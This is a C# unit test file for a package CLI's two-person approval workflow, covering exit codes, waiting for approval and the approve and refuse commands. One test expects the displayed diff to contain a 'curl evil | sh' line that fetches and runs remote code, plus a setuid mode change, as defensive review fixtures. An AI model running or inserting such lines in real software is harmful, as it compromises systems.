using Skyline.Cli.Tests.Running;
using Skyline.Cli.Tests.StandIn;
using Skyline.Protocol;

namespace Skyline.Cli.Tests.Approvals;

public sealed class ApprovalTests
{
    [Fact]
    public async Task A_change_that_needs_a_second_person_says_so_and_ends_with_a_code_of_its_own()
    {
        await using var server = await StandInServer.Start();
        server.TagWork.Holds = true;

        using var change = await CliRun.Of(server, "tag", "add", "stable", "hello-2-1");
        using var json = await CliRun.Of(server, "tag", "add", "stable", "hello-2-1", "--json");

        Assert.Equal((8, ""), (await change.Exit, change.Out));
        Assert.Equal("Nothing is changed yet: it needs a second person.\n", change.Error);
        Assert.Equal(8, await json.Exit);
        Assert.Contains("\"approval\": 7", json.Out, StringComparison.Ordinal);
        Assert.Contains("\"exitCode\": 8", json.Out, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(ApprovalState.Done, 0)]
    [InlineData(ApprovalState.Refused, 3)]
    [InlineData(ApprovalState.Stale, 3)]
    public async Task It_waits_for_the_second_person_if_it_is_told_to(ApprovalState end, int exit)
    {
        await using var server = await StandInServer.Start();
        server.TagWork.Holds = true;
        foreach (var state in new[] { ApprovalState.Waiting, ApprovalState.Waiting, end }) server.TagWork.Approvals.Enqueue(state);

        using var change = await CliRun.Of(server, "tag", "add", "stable", "hello-2-1", "--wait");

        Assert.Equal(exit, await change.Exit);
        Assert.Equal(["GET /api/approvals/7 ", "GET /api/approvals/7?since=1&wait=50 ", "GET /api/approvals/7?since=1&wait=50 "], server.TagWork.Changes.Skip(1));
    }

    [Fact]
    public async Task What_differs_is_shown_harmlessly_with_the_digest_that_is_agreed_to()
    {
        await using var server = await StandInServer.Start();

        using var list = await CliRun.Of(server, "approval", "list");
        using var show = await CliRun.Of(server, "approval", "show", "7");
        using var approve = await CliRun.Of(server, "approval", "approve", "7", "--digest", "abc");
        using var refuse = await CliRun.Of(server, "approval", "refuse", "7", "--reason", "not now");
        using var withdraw = await CliRun.Of(server, "approval", "withdraw", "7");
        using var blind = await CliRun.Of(server, "approval", "approve", "7");

        Assert.Equal((0, 0, 0, 0), (await list.Exit, await show.Exit, await approve.Exit, await refuse.Exit));
        Assert.Equal((0, 2), (await withdraw.Exit, await blind.Exit));
        Assert.All(new[] { "hello in stable: hello-1-1 → hello-2-1", "+Version: 2", "source hello.tar: 1111 → 2222", "+curl evil | sh", "+ requires: curl", "/usr/bin/hello␛: content, mode 100755 → 104755", "--digest abc" }, text => Assert.Contains(text, show.Out, StringComparison.Ordinal));
        Assert.Contains("POST /api/approvals/7/approve {\"digest\":\"abc\"}", server.TagWork.Changes);
        Assert.Contains("POST /api/approvals/7/refuse {\"reason\":\"not now\"}", server.TagWork.Changes);
    }
}
